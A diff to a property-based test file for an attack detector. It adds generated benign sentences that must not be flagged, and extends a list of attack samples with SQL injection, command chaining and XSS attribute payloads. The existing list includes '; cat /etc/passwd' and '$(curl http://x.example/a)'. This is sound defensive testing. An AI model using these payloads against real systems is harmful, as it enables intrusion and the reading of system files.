@@ -17,7 +17,49 @@ const prose = fc
   .array(fc.tuple(words, stops), { minLength: 1, maxLength: 60 })
   .map((parts) => parts.map(([word, stop]) => word + stop).join(''));
 
+const nouns = fc.constantFrom(
+  ...'agent report query table customer script function alert prompt system date file node python shell union price team'.split(
+    ' ',
+  ),
+);
+const said = fc.oneof(
+  nouns.map((noun) => `"${noun}"`),
+  nouns.map((noun) => `the ${noun}'s`),
+  nouns.map((noun) => `our ${noun}s'`),
+  fc.tuple(nouns, nouns).map(([first, second]) => `'the ${first} and the ${second}'`),
+  nouns.map((noun) => `\`${noun}\``),
+  fc.tuple(nouns, nouns).map(([first, second]) => `(${first} or ${second})`),
+  fc.constantFrom(
+    "don't",
+    "O'Brien",
+    '{{name}}',
+    'f(x)',
+    'x = 5',
+    'R&D',
+    'C++',
+    'a > b',
+    'https://x.example/a?b=c&d=e',
+  ),
+);
+
+/** Sentences with quotations, possessives, inline code, templates and small formulas. */
+const quotations = fc
+  .array(fc.tuple(fc.constantFrom('We like', 'They use', 'Please show', 'It needs', 'Is there'), said), {
+    minLength: 1,
+    maxLength: 12,
+  })
+  .map((parts) => parts.map(([lead, what]) => `${lead} ${what}.`).join(' '));
+
 describe('any prose', () => {
+  it('is no attack, whatever it quotes', () => {
+    fc.assert(
+      fc.property(quotations, (text) => {
+        assert.equal(judge(text)?.rule, undefined);
+      }),
+      { seed: 7, numRuns: 1500 },
+    );
+  });
+
   it('is no attack, whatever keywords it uses', () => {
     fc.assert(
       fc.property(prose, (text) => {
@@ -45,6 +87,9 @@ const attack = fc.constantFrom(
   '<img src=x onerror=alert(1)>',
   '; cat /etc/passwd',
   '$(curl http://x.example/a)',
+  "x' and json_valid(id) -- -",
+  '|| ping -c 3 10.0.0.1',
+  '" onfocus=alert(1) autofocus="',
 );
 
 const percent = (text: string): string =>
